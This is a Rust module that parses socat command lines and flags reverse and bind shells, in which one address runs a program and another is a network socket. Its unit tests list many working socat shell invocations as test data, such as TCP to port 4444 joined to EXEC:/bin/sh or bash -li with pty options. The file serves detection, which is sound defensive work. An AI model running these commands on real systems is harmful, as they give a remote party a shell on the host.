//! What a socat command line does: its addresses, and whether it joins a program to the network.
//!
//! Grammar (socat 1.7.4 `socat -h` and man page, consistent with 1.8):
//! `socat [options] <address> <address>`. Options come first and start with `-`; the first
//! token that is not an option starts the addresses. A lone `-` (or `-,opts`) is the STDIO
//! address, not an option. Options that take a value accept it attached or as the next token:
//! `-b`, `-t`, `-T`, `-r`, `-R`, `-L`, `-W`, `-lf`, `-lp` (`-t 5` and `-t5` both work);
//! `-ly`/`-lm` take only an attached facility. Other options, including any socat learns later,
//! are treated as flags: if one actually took a value, that value would show up as an extra
//! address, which never hides an exec or network address.
//!
//! An address is `KEYWORD[:param[:param...]][,option[,option=value...]]`, the keyword case
//! insensitive. Digits alone are an FD address and a `/` before the first `:` or `,` means
//! GOPEN. socat's lexer treats `'...'`, `"..."`, `(...)`, `[...]`, `{...}` and `\x` as
//! protecting `:` `,` and `!!`; `a!!b` is a dual address (read from a, write to b).

use serde::Serialize;

use crate::event::RawStr;

/// What an address connects to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AddressKind {
    /// `EXEC:cmd`: runs a program.
    Exec,
    /// `SYSTEM:cmd`: runs a command through `/bin/sh -c`.
    System,
    /// `SHELL:cmd` (socat 1.8): runs a command through the user's shell.
    Shell,
    /// An IP, SSL, SOCKS, proxy, SCTP, DCCP, vsock or raw-IP socket; `listen` for the server
    /// forms (`*-LISTEN`, `*-L`, `*-SERVER`, `*-RECV`, `*-RECVFROM`).
    Network {
        /// Waits for a peer rather than connecting out.
        listen: bool,
    },
    /// `STDIO`, `STDIN`, `STDOUT`, `STDERR`, `-`, `READLINE`.
    Stdio,
    /// Files and descriptors: `OPEN`, `GOPEN`, `CREATE`, `FILE`, `FD`, `PIPE`, a bare path or
    /// fd number.
    File,
    /// `PTY`.
    Pty,
    /// Anything else (unix sockets, TUN, message queues, unknown keywords).
    Other,
}

/// One socat address.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct SocatAddress {
    /// What it connects to.
    pub kind: AddressKind,
    /// Upper-cased address type (`EXEC`, `TCP`, `TCP4-LISTEN`, `OPENSSL`); for the short forms
    /// `STDIO` (`-`), `FD` (digits) and `GOPEN` (a path).
    pub keyword: String,
    /// The address as written.
    pub raw: String,
    /// Network: the parameters (`host:port`, `[::1]:80`, a port); exec-like: the command with
    /// one layer of socat quoting removed (`exec:'bash -li'` → `bash -li`); others: their
    /// parameters (a path, an fd), if any.
    pub target: Option<String>,
    /// Address options as written, unquoted (`pty`, `stderr`, `fork`, `reuseaddr`,
    /// `verify=0`, `link=/tmp/x`).
    pub options: Vec<String>,
}

impl SocatAddress {
    /// The peer a network address names (host and port; for a listening address, the port).
    pub fn peer(&self) -> Option<super::Peer> {
        let AddressKind::Network { listen } = self.kind else { return None };
        let proto = if self.keyword.starts_with("UDP") { crate::event::SocketProto::Udp } else { crate::event::SocketProto::Tcp };
        super::Peer::parse_host_port(self.target.as_deref()?, proto, listen)
    }
}

/// A parsed socat command line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct SocatCommand {
    /// The addresses in order (normally 2; the two halves of a dual `a!!b` address count as
    /// two).
    pub addresses: Vec<SocatAddress>,
}

/// Options that take a value (attached or as the next token), after the leading `-`.
fn option_takes_value(opt: &[u8]) -> bool {
    matches!(opt, b"b" | b"t" | b"T" | b"r" | b"R" | b"L" | b"W" | b"lf" | b"lp")
}

/// Parse a socat command line. `args` are the program's own arguments (`argv[1..]`).
pub fn parse(args: &[RawStr]) -> SocatCommand {
    let mut i = 0;
    while let Some(tok) = args.get(i) {
        let a = tok.as_bytes();
        // "-" and "-,opts" / "-:..." are the STDIO address.
        if a.len() < 2 || a[0] != b'-' || matches!(a[1], b',' | b':') {
            break;
        }
        i += 1;
        if option_takes_value(&a[1..]) {
            i += 1; // the value is the next token
        }
    }
    let mut addresses = Vec::new();
    for tok in args.get(i..).unwrap_or(&[]) {
        let text = tok.to_str_lossy();
        let mut rest: &str = &text;
        loop {
            match find_top(rest, |b, j| b[j] == b'!' && b.get(j + 1) == Some(&b'!')) {
                Some(k) => {
                    addresses.push(parse_address(&rest[..k]));
                    rest = &rest[k + 2..];
                }
                None => {
                    addresses.push(parse_address(rest));
                    break;
                }
            }
        }
    }
    SocatCommand { addresses }
}

/// The first byte index, outside quotes, brackets and escapes, where `stop` holds.
fn find_top(s: &str, stop: impl Fn(&[u8], usize) -> bool) -> Option<usize> {
    let b = s.as_bytes();
    let mut closers: Vec<u8> = Vec::new();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        match quote {
            Some(b'"') if c == b'\\' => i += 1,
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None => match c {
                b'\\' => i += 1,
                b'\'' | b'"' => quote = Some(c),
                b'(' => closers.push(b')'),
                b'[' => closers.push(b']'),
                b'{' => closers.push(b'}'),
                b')' | b']' | b'}' if closers.last() == Some(&c) => {
                    closers.pop();
                }
                _ if closers.is_empty() && stop(b, i) => return Some(i),
                _ => {}
            },
        }
        i += 1;
    }
    None
}

/// Split at every top-level `sep`.
fn split_top(s: &str, sep: u8) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = s;
    while let Some(k) = find_top(rest, |b, j| b[j] == sep) {
        out.push(&rest[..k]);
        rest = &rest[k + 1..];
    }
    out.push(rest);
    out
}

/// Remove one layer of socat quoting: quote characters outside quotes of the other kind, and
/// backslash escapes (outside single quotes).
fn dequote(s: &str) -> String {
    let mut out = Vec::with_capacity(s.len());
    let mut quote: Option<u8> = None;
    let mut it = s.bytes();
    while let Some(c) = it.next() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (None, b'\'' | b'"') => quote = Some(c),
            (None | Some(b'"'), b'\\') => out.extend(it.next()),
            _ => out.push(c),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn is_listen(kw: &str) -> bool {
    ["-LISTEN", "-L", "-SERVER", "-RECV", "-RECVFROM"].iter().any(|s| kw.ends_with(s))
}

/// Keyword prefixes of network address types (with `IP` itself and `SOCKET-*` handled apart).
#[rustfmt::skip]
const NET_PREFIXES: &[&str] = &[
    "TCP", "UDP", "SCTP", "DCCP", "SSL", "OPENSSL", "SOCKS", "PROXY", "VSOCK", "IP-", "IP4", "IP6",
    "RAWIP", "INTERFACE", "DTLS",
];

fn classify(kw: &str, params: Option<&str>) -> AddressKind {
    match kw {
        "EXEC" => AddressKind::Exec,
        "SYSTEM" => AddressKind::System,
        "SHELL" => AddressKind::Shell,
        "STDIO" | "STDIN" | "STDOUT" | "STDERR" | "READLINE" => AddressKind::Stdio,
        "PTY" => AddressKind::Pty,
        "OPEN" | "GOPEN" | "CREATE" | "CREAT" | "FILE" | "FD" | "PIPE" => AddressKind::File,
        _ => {
            // Generic sockets are network unless the domain is AF_UNIX (1).
            let generic_inet = kw.starts_with("SOCKET-")
                && params.and_then(|p| p.split(':').next()).is_some_and(|d| d.trim() != "1");
            if kw == "IP" || generic_inet || NET_PREFIXES.iter().any(|p| kw.starts_with(p)) {
                AddressKind::Network { listen: is_listen(kw) }
            } else {
                AddressKind::Other
            }
        }
    }
}

fn parse_address(part: &str) -> SocatAddress {
    let kw_end = find_top(part, |b, j| b[j] == b':' || b[j] == b',').unwrap_or(part.len());
    let kw_raw = &part[..kw_end];
    let rest = part.get(kw_end + 1..).unwrap_or("");
    let (params, opts) = match part.as_bytes().get(kw_end) {
        Some(b':') => match find_top(rest, |b, j| b[j] == b',') {
            Some(c) => (Some(&rest[..c]), Some(&rest[c + 1..])),
            None => (Some(rest), None),
        },
        Some(_) => (None, Some(rest)),
        None => (None, None),
    };
    let (keyword, target_src) = if kw_raw == "-" {
        ("STDIO".to_string(), params)
    } else if !kw_raw.is_empty() && kw_raw.bytes().all(|b| b.is_ascii_digit()) {
        ("FD".to_string(), Some(kw_raw))
    } else if kw_raw.contains('/') {
        ("GOPEN".to_string(), Some(kw_raw))
    } else {
        (kw_raw.to_ascii_uppercase(), params)
    };
    let kind = classify(&keyword, params);
    let target = target_src.filter(|t| !t.is_empty()).map(dequote);
    let options = opts
        .map(|o| split_top(o, b',').into_iter().filter(|s| !s.is_empty()).map(dequote).collect())
        .unwrap_or_default();
    SocatAddress { kind, keyword, raw: part.to_string(), target, options }
}

/// The program-to-network pair of a socat shell: `Some((exec-like, network))` when one address
/// runs a program (EXEC, SYSTEM, SHELL) and another is a network socket.
///
/// Both directions count: a reverse shell connects out (`TCP:host:4444 EXEC:/bin/sh`) and a
/// bind shell listens (`TCP-LISTEN:4444,fork EXEC:/bin/sh`); either gives a remote peer a
/// program on this host. Not a shell: port forwarding (`TCP-LISTEN:8080,fork TCP:db:5432`), a
/// terminal joined to the network (`STDIO TCP:h:p`, `FILE:/dev/tty,raw,echo=0
/// TCP-LISTEN:4444`: the attacker's end of a shell, nothing runs here), or a program joined
/// to a unix socket or file. The halves of a dual address are looked at like separate
/// addresses; `-u`/`-U` (one direction only) still hands the peer a program and is not
/// special-cased.
pub fn reverse_shell(cmd: &SocatCommand) -> Option<(&SocatAddress, &SocatAddress)> {
    // A program that only moves or prints data (`EXEC:cat`, an echo service) runs nothing the
    // peer sends.
    let exec = cmd.addresses.iter().find(|a| {
        matches!(a.kind, AddressKind::Exec | AddressKind::System | AddressKind::Shell)
            && !a.target.as_deref().is_some_and(super::command_moves_data_only)
    })?;
    let net = cmd.addresses.iter().find(|a| matches!(a.kind, AddressKind::Network { .. }))?;
    Some((exec, net))
}

#[cfg(test)]
#[rustfmt::skip]
mod tests {
    use super::*;

    fn cmd(line: &[&str]) -> SocatCommand {
        let args: Vec<RawStr> = line.iter().map(|a| RawStr::from(*a)).collect();
        parse(&args)
    }

    /// (exec raw, network raw) or None.
    fn shell(line: &[&str]) -> Option<(String, String)> {
        let c = cmd(line);
        reverse_shell(&c).map(|(e, n)| (e.raw.clone(), n.raw.clone()))
    }

    #[test]
    fn shells() {
        let cases: &[(&[&str], &str, &str)] = &[
            (&["TCP:127.0.0.1:4444", "EXEC:/bin/sh"], "EXEC:/bin/sh", "TCP:127.0.0.1:4444"),
            (
                &["exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:127.0.0.1:4444"],
                "exec:'bash -li',pty,stderr,setsid,sigint,sane",
                "tcp:127.0.0.1:4444",
            ),
            (&["TCP4:10.0.0.1:4444", "SYSTEM:bash -i"], "SYSTEM:bash -i", "TCP4:10.0.0.1:4444"),
            (&["TCP4:10.0.0.1:4444", "SYSTEM:\"bash -i\""], "SYSTEM:\"bash -i\"", "TCP4:10.0.0.1:4444"),
            (
                &["-d", "-d", "OPENSSL:host:443,verify=0", "EXEC:/bin/bash"],
                "EXEC:/bin/bash",
                "OPENSSL:host:443,verify=0",
            ),
            (&["udp:h:53", "exec:sh"], "exec:sh", "udp:h:53"),
            (
                &["TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash,pty,stderr"],
                "EXEC:/bin/bash,pty,stderr",
                "TCP-LISTEN:4444,reuseaddr,fork",
            ),
            (&["-T", "10", "tcp6:[::1]:80", "EXEC:sh -c id"], "EXEC:sh -c id", "tcp6:[::1]:80"),
            (&["-T10", "tcp6:[::1]:80", "EXEC:\"sh -c id\""], "EXEC:\"sh -c id\"", "tcp6:[::1]:80"),
            (&["tCp:h:1", "Exec:sh"], "Exec:sh", "tCp:h:1"),
            (&["-dd", "-lf", "/tmp/l", "SsL:h:443", "sYsTeM:sh"], "sYsTeM:sh", "SsL:h:443"),
            (&["-b", "8192", "-t", "5", "-L", "/tmp/lock", "TCP:h:1", "SHELL:id"], "SHELL:id", "TCP:h:1"),
            (&["-u", "TCP:h:1", "EXEC:sh"], "EXEC:sh", "TCP:h:1"),
            (&["SOCKS4A:proxy:h:22", "EXEC:sh"], "EXEC:sh", "SOCKS4A:proxy:h:22"),
            (&["PROXY:proxy:h:443,proxyport=3128", "EXEC:sh"], "EXEC:sh", "PROXY:proxy:h:443,proxyport=3128"),
            (&["OPENSSL-LISTEN:443,cert=c.pem,fork", "EXEC:sh"], "EXEC:sh", "OPENSSL-LISTEN:443,cert=c.pem,fork"),
            (&["VSOCK-CONNECT:2:4444", "EXEC:sh"], "EXEC:sh", "VSOCK-CONNECT:2:4444"),
            (&["SOCKET-CONNECT:2:6:x00x115c0a000001", "EXEC:sh"], "EXEC:sh", "SOCKET-CONNECT:2:6:x00x115c0a000001"),
            // A dual address: the halves are separate addresses.
            (&["TCP:h:1!!STDOUT", "EXEC:sh"], "EXEC:sh", "TCP:h:1"),
            // An unknown option that takes a value surfaces as an extra address; the shell is
            // still found.
            (&["-S", "0x4", "TCP:h:1", "EXEC:sh"], "EXEC:sh", "TCP:h:1"),
        ];
        for (line, exec, net) in cases {
            assert_eq!(shell(line), Some((exec.to_string(), net.to_string())), "{line:?}");
        }
    }

    #[test]
    fn not_shells() {
        let cases: &[&[&str]] = &[
            &["TCP-LISTEN:8080,fork", "TCP:db:5432"],
            &["STDIO", "TCP:h:p"],
            &["-", "TCP:h:p"],
            &["-,raw,echo=0", "TCP:h:p"],
            &["file:`tty`,raw,echo=0", "tcp-listen:4444"],
            &["file:/dev/pts/3,raw,echo=0", "tcp-listen:4444"],
            &["UNIX-LISTEN:/tmp/s", "EXEC:cat"],
            &["ABSTRACT-LISTEN:x", "SYSTEM:sh"],
            &["SOCKET-LISTEN:1:0:x2f746d70", "EXEC:sh"],
            &["EXEC:sh", "PTY,link=/tmp/x"],
            &["-v", "/dev/ttyS0,raw,b115200", "TCP:h:p"],
            &["3", "EXEC:sh"],
            &["-lf", "EXEC:x", "TCP:h:1"], // "EXEC:x" is the log file name
            &["-t", "TCP:x", "EXEC:sh"],   // "TCP:x" is the -t value
            &["TCP-LISTEN:7,fork", "EXEC:cat"],   // an echo service
            &["TCP:h:1", "SYSTEM:'date -u'"],
            &["TCP-LISTEN:13,fork", "EXEC:/bin/date"],
            &["-V"],
            &[],
        ];
        for line in cases {
            assert_eq!(shell(line), None, "{line:?}");
        }
    }

    #[test]
    fn address_details() {
        let c = cmd(&["-d", "-d", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:127.0.0.1:4444"]);
        assert_eq!(c.addresses.len(), 2);
        let e = &c.addresses[0];
        assert_eq!((e.kind, e.keyword.as_str(), e.target.as_deref()), (AddressKind::Exec, "EXEC", Some("bash -li")));
        assert_eq!(e.options, ["pty", "stderr", "setsid", "sigint", "sane"]);
        let n = &c.addresses[1];
        assert_eq!(
            (n.kind, n.keyword.as_str(), n.target.as_deref()),
            (AddressKind::Network { listen: false }, "TCP", Some("127.0.0.1:4444"))
        );
        assert!(n.options.is_empty());

        let c = cmd(&["TCP4-LISTEN:4444,reuseaddr,fork", "SYSTEM:\"echo a,b\",nofork", "x"]);
        let l = &c.addresses[0];
        assert_eq!((l.kind, l.keyword.as_str(), l.target.as_deref()), (AddressKind::Network { listen: true }, "TCP4-LISTEN", Some("4444")));
        assert_eq!(l.options, ["reuseaddr", "fork"]);
        let s = &c.addresses[1];
        assert_eq!((s.kind, s.target.as_deref()), (AddressKind::System, Some("echo a,b")));
        assert_eq!(s.options, ["nofork"]);
        assert_eq!(c.addresses[2].kind, AddressKind::Other);

        let c = cmd(&["tcp6:[::1]:80,bind=[::1]:0", "EXEC:sh -c 'a\\,b',stderr"]);
        assert_eq!(c.addresses[0].target.as_deref(), Some("[::1]:80"));
        assert_eq!(c.addresses[0].options, ["bind=[::1]:0"]);
        assert_eq!(c.addresses[1].target.as_deref(), Some("sh -c a\\,b"));
        assert_eq!(c.addresses[1].options, ["stderr"]);

        let c = cmd(&["EXEC:sh -c a\\,b,pty", "TCP-L:1"]);
        assert_eq!(c.addresses[0].target.as_deref(), Some("sh -c a,b"));
        assert_eq!(c.addresses[0].options, ["pty"]);
        assert_eq!(c.addresses[1].kind, AddressKind::Network { listen: true });

        let kinds = |line: &[&str]| cmd(line).addresses.iter().map(|a| (a.kind, a.keyword.clone())).collect::<Vec<_>>();
        use AddressKind::*;
        assert_eq!(kinds(&["-", "-,raw"]), [(Stdio, "STDIO".into()), (Stdio, "STDIO".into())]);
        assert_eq!(kinds(&["3", "/dev/null,ignoreeof"]), [(File, "FD".into()), (File, "GOPEN".into())]);
        assert_eq!(kinds(&["PTY,link=/tmp/x", "open:/etc/passwd"]), [(Pty, "PTY".into()), (File, "OPEN".into())]);
        assert_eq!(
            kinds(&["UDP-RECVFROM:53,fork", "SCTP-LISTEN:1", "dccp-connect:h:1", "ip4-sendto:h:47"]),
            [
                (Network { listen: true }, "UDP-RECVFROM".into()),
                (Network { listen: true }, "SCTP-LISTEN".into()),
                (Network { listen: false }, "DCCP-CONNECT".into()),
                (Network { listen: false }, "IP4-SENDTO".into()),
            ]
        );
        assert_eq!(
            kinds(&["SSL-L:443", "OPENSSL-DTLS-SERVER:4433", "UNIX-CONNECT:/s", "readline"]),
            [
                (Network { listen: true }, "SSL-L".into()),
                (Network { listen: true }, "OPENSSL-DTLS-SERVER".into()),
                (Other, "UNIX-CONNECT".into()),
                (Stdio, "READLINE".into()),
            ]
        );
        let c = cmd(&["/dev/ttyS0,raw", "1"]);
        assert_eq!(c.addresses[0].target.as_deref(), Some("/dev/ttyS0"));
        assert_eq!(c.addresses[1].target.as_deref(), Some("1"));

        // A non-UTF-8 argument is read lossily and still parsed.
        let c = parse(&[RawStr::from(&b"TCP:h\xff:1"[..]), RawStr::from("EXEC:sh")]);
        assert!(reverse_shell(&c).is_some());
    }

    #[test]
    fn lexer() {
        assert_eq!(dequote("'bash -li'"), "bash -li");
        assert_eq!(dequote("\"a 'b'\""), "a 'b'");
        assert_eq!(dequote("a\\,b"), "a,b");
        assert_eq!(dequote("'a\\b'"), "a\\b");
        assert_eq!(split_top("a,'b,c',(d,e),[f,g],{h,i},j\\,k", b','), ["a", "'b,c'", "(d,e)", "[f,g]", "{h,i}", "j\\,k"]);
        assert_eq!(find_top("x'!!'!!y", |b, j| b[j] == b'!' && b.get(j + 1) == Some(&b'!')), Some(5));
        assert_eq!(find_top("unterminated 'quote,", |b, j| b[j] == b','), None);
        assert_eq!(find_top("trailing\\", |b, j| b[j] == b','), None);
    }
}
